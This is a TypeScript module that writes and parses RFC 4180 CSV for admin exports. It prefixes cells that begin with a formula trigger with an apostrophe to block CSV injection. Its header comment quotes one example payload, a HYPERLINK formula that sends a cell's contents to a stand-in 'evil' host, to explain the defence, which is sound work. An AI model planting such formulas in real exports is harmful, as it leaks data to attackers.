// CSV for the admin exports: RFC 4180 (https://www.rfc-editor.org/rfc/rfc4180) with CRLF line
// ends, and safe to open in a spreadsheet. Submitted text is attacker-controlled: a cell such as
// =HYPERLINK("http://evil/?"&A1) would run as a formula in Excel or Sheets, so text cells that
// start with a formula trigger get a leading apostrophe, as OWASP recommends
// (https://owasp.org/www-community/attacks/CSV_Injection).

export type Cell = string | number | null | undefined

/** Characters that make a spreadsheet treat a cell as a formula (tab and CR too, per OWASP). */
const FORMULA_TRIGGER = /^[=+\-@\t\r]/

/** Text cells only: numbers we write are plain values, never formulas. */
export function neutraliseFormula(text: string): string {
  return FORMULA_TRIGGER.test(text) ? `'${text}` : text
}

/** Quotes a field when it holds a comma, a quote or a line break; quotes inside are doubled. */
export function quoteField(text: string): string {
  return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text
}

export function formatCell(value: Cell): string {
  if (value === null || value === undefined) return ''
  if (typeof value === 'number') return String(value)
  return quoteField(neutraliseFormula(value))
}

/** One record, CRLF-terminated. */
export function csvRecord(cells: readonly Cell[]): string {
  return `${cells.map(formatCell).join(',')}\r\n`
}

/**
 * Parses RFC 4180 text (CRLF or bare LF line ends) into records of raw field strings. Used by
 * tests and by anyone scripting against an export; it does not undo the formula apostrophe.
 */
export function parseCsv(text: string): string[][] {
  const records: string[][] = []
  let record: string[] = []
  let field = ''
  let i = 0
  let quoted = false
  let pending = false // a record has started (so a final line without CRLF still counts)
  while (i < text.length) {
    const char = text[i] as string
    if (quoted) {
      if (char === '"') {
        if (text[i + 1] === '"') {
          field += '"'
          i += 2
          continue
        }
        quoted = false
        i++
        continue
      }
      field += char
      i++
      continue
    }
    if (char === '"' && field === '') {
      quoted = true
      pending = true
      i++
    } else if (char === ',') {
      record.push(field)
      field = ''
      pending = true
      i++
    } else if (char === '\r' || char === '\n') {
      record.push(field)
      records.push(record)
      record = []
      field = ''
      pending = false
      i += char === '\r' && text[i + 1] === '\n' ? 2 : 1
    } else {
      field += char
      pending = true
      i++
    }
  }
  if (quoted) throw new Error('CSV ends inside a quoted field')
  if (pending) {
    record.push(field)
    records.push(record)
  }
  return records
}
